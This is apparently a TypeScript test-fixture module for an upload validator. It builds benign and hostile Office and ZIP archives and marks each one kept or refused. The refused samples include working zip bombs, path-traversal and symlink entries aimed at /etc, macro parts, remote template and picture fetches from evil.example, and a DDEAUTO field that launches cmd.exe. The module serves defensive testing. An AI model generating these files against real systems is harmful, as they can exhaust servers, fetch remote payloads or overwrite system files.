import { crc32, deflateRawSync } from 'node:zlib';
import { type Beast, kept, MARK, refused } from './beast.ts';

interface Part {
  readonly name: string;
  readonly body: Buffer | string;
  /** What the directory says where it lies. */
  readonly says?: { readonly size?: number; readonly flags?: number; readonly mode?: number };
}

interface Ready { readonly plain: Buffer; readonly packed: Buffer; readonly sum: number }
const known = new Map<Buffer | string, Ready>();

/** A body packed, once for all zips that hold it. */
function ready(body: Buffer | string): Ready {
  const plain = typeof body === 'string' ? Buffer.from(body) : body;
  const made = known.get(body) ?? { plain, packed: deflateRawSync(plain, { level: 1 }), sum: crc32(plain) >>> 0 };
  known.set(body, made);
  return made;
}

/** Writes a zip by hand, so that it may lie. */
function zip(parts: readonly Part[], { before = Buffer.alloc(0), remark = '' } = {}): Buffer {
  const [files, directory]: [Buffer[], Buffer[]] = [[before], []];
  let at = before.length;
  for (const { name, body, says = {} } of parts) {
    const { plain, packed, sum } = ready(body);
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt16LE(says.flags ?? 0x800, 2);
    about.writeUInt16LE(8, 4);
    about.writeUInt32LE(sum, 10);
    about.writeUInt32LE(packed.length, 14);
    about.writeUInt32LE(says.size ?? plain.length, 18);
    about.writeUInt16LE(Buffer.byteLength(name), 22);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(((says.mode ?? 0o100644) << 16) >>> 0, 6);
    rest.writeUInt32LE(at, 10);
    const file = Buffer.concat([Buffer.from('PK\u0003\u0004'), about, Buffer.from(name), packed]);
    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0003'), about, rest, Buffer.from(name)]));
    files.push(file);
    at += file.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(listed.length, 8);
  end.writeUInt32LE(at, 12);
  end.writeUInt16LE(remark.length, 16);
  return Buffer.concat([...files, listed, Buffer.from('PK\u0005\u0006'), end, Buffer.from(remark)]);
}

const types = (more = ''): Part => ({ name: '[Content_Types].xml', body: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${more}</Types>` });
const text = (fields = ''): Part => ({ name: 'word/document.xml', body: `<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Attestation</w:t></w:r>${fields}</w:p></w:body></w:document>` });
const book: Part = { name: 'xl/workbook.xml', body: '<workbook/>' };
const tie = (type: string, more = 'TargetMode="External"'): string => `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/${MARK}" ${more}/></Relationships>`;
const ties = (body: Buffer | string): Part => ({ name: 'word/_rels/document.xml.rels', body });
const field = (instruction: string): string => `<w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r>`;
const docx = (...more: Part[]): Buffer => zip([types(), text(), ...more]);
const xlsx = (...more: Part[]): Buffer => zip([types(), book, ...more]);
const part = (name: string, body: Buffer | string = MARK): Part => ({ name, body });
const zeros = Buffer.alloc(40 * 1_048_576);

/** Sheets and texts as offices write them, with what offices should not send, and archives of every kind. */
export function archives(): Beast[] {
  const flat = zip([part('0.txt', zeros), part('1.txt', zeros)]);
  let nested = flat;
  for (let depth = 0; depth < 5; depth++) nested = zip(Array.from({ length: 16 }, (_, n) => part(`lib ${n}.zip`, nested)));
  const plain = docx();
  return [
    kept('a plain DOCX', 'lettre.docx', plain), kept('a plain XLSX', 'liste.xlsx', xlsx()),
    kept('a DOCX with a link one presses', 'lien.docx', docx(ties(tie('hyperlink')))),
    kept('an XLSX with the settings of a printer', 'imprimante.xlsx', xlsx(part('xl/printerSettings/printerSettings1.bin'))),
    refused('a zip bomb like 42.zip', '42.zip', nested), refused('a flat zip bomb', 'flat.zip', flat), refused('the bomb as a DOCX', 'bomb.docx', zip([types(), text(), part('word/media/a.png', zeros), part('word/media/b.png', zeros), part('word/media/c.png', zeros)])),
    refused('a bomb that says it is small', 'lie.docx', zip([types(), { name: 'word/document.xml', body: zeros, says: { size: 900 } }])),
    refused('a text that swells', 'swell.docx', zip([types(), { name: 'word/document.xml', body: `<w:p>${'<w:r/>'.repeat(2_000_000)}</w:p>` }])),
    refused('three thousand parts', 'many.docx', docx(...Array.from({ length: 3_000 }, (_, n) => part(`word/${n}.txt`, '')))),
    refused('a zip with a link out of it', 'link.docx', zip([types(), text(), { name: 'word/media/x', body: '/etc/passwd', says: { mode: 0o120777 } }])),
    refused('a zip that climbs out', 'climb.docx', docx(part('../../etc/cron.d/x'))), refused('a zip with a whole path', 'root.docx', docx(part('/etc/passwd'))), refused('a zip with a drive', 'drive.docx', docx(part('C:\\x.exe'))),
    refused('a locked zip', 'locked.docx', zip([types(), { ...text(), says: { flags: 0x801 } }])),
    refused('DOCM', 'macro.docm', zip([types('<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), text(), part('word/vbaProject.bin')])),
    refused('XLSM', 'macro.xlsm', xlsx(part('xl/vbaProject.bin'))), refused('macros under the name of a text', 'macro.docx', docx(part('word/VBAPROJECT.BIN'))), refused('macros under another name', 'macro2.docx', docx(part('word/other.bin'))),
    refused('macros that only the list of types tells', 'types.docx', zip([types('<Override ContentType="application/vnd.ms-office.vbaProject"/>'), text()])),
    refused('a sheet of old macros', 'xl4.xlsx', xlsx(part('xl/macrosheets/sheet1.xml'))), refused('a sheet that reads elsewhere', 'links.xlsx', xlsx(part('xl/externalLinks/externalLink1.xml'))),
    refused('a text with a file inside', 'ole.docx', docx(part('word/embeddings/oleObject1.bin'))), refused('a text with a control', 'activex.docx', docx(part('word/activeX/activeX1.xml'))), refused('buttons of its own', 'ui.docx', docx(part('customUI/customUI14.xml'))),
    ...['attachedTemplate', 'oleObject', 'image', 'frame', 'subDocument'].map((type) => refused(`a text that fetches: ${type}`, `${type}.docx`, docx(ties(tie(type))))),
    refused('the same in wide letters', 'wide.docx', docx(ties(Buffer.from(`\ufeff${tie('attachedTemplate')}`, 'utf16le')))), refused('the same in numbers', 'numbers.docx', docx(ties(tie('attachedTemplate', 'TargetMode="&#69;xternal"')))),
    refused('the same with blanks', 'blanks.docx', docx(ties(tie('attachedTemplate', `TargetMode = 'external'`)))),
    refused('a field that starts a program', 'dde.docx', zip([types(), text(field('DDEAUTO c:\\\\windows\\\\cmd.exe'))])), refused('the same in pieces', 'dde2.docx', zip([types(), text(field('DD') + field('EAUTO cmd'))])),
    refused('a field that fetches', 'include.docx', zip([types(), text(field('INCLUDEPICTURE "https://evil.example"'))])),
    refused('a DOCX after other bytes', 'late.docx', zip([types(), text()], { before: Buffer.from('GIF89a') })), refused('a DOCX after a zip’s head', 'late2.docx', zip([types(), text()], { before: Buffer.from('PK\u0003\u0004junk') })),
    refused('a DOCX with bytes behind it', 'tail.docx', Buffer.concat([plain, Buffer.from(MARK)])), refused('a DOCX with a remark', 'remark.docx', zip([types(), text()], { remark: MARK })),
    refused('a part twice', 'twice.docx', docx({ ...text(), name: 'WORD/document.xml' })), refused('a DOCX without its list of types', 'bare.docx', zip([text()])), refused('a DOCX cut in the middle', 'cut.docx', plain.subarray(0, plain.length >> 1)),
    refused('an empty zip', 'empty.zip', zip([])), refused('a plain zip', 'photos.zip', zip([part('a.txt')])), refused('a Java program', 'x.jar', zip([part('META-INF/MANIFEST.MF'), part('A.class')])), refused('a telephone’s program', 'x.apk', zip([part('AndroidManifest.xml'), part('classes.dex')])),
    refused('a presentation', 'x.pptx', zip([types(), part('ppt/presentation.xml')])), refused('an ODT', 'x.odt', zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml')])), refused('a book', 'x.epub', zip([part('mimetype', 'application/epub+zip')])),
    refused('7z', 'x.7z', Buffer.from('377abcaf271c0004', 'hex')), refused('RAR', 'x.rar', 'Rar!\u001a\u0007\u0001\0'), refused('gzip', 'x.gz', Buffer.from('1f8b0800', 'hex')), refused('bzip2', 'x.bz2', 'BZh91AY&SY'), refused('xz', 'x.xz', Buffer.from('fd377a585a00', 'hex')),
    refused('tar', 'x.tar', Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\0'), Buffer.alloc(250)])), refused('a cabinet', 'x.cab', 'MSCF\0\0\0\0'), refused('an old Word file', 'x.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])),
  ];
}
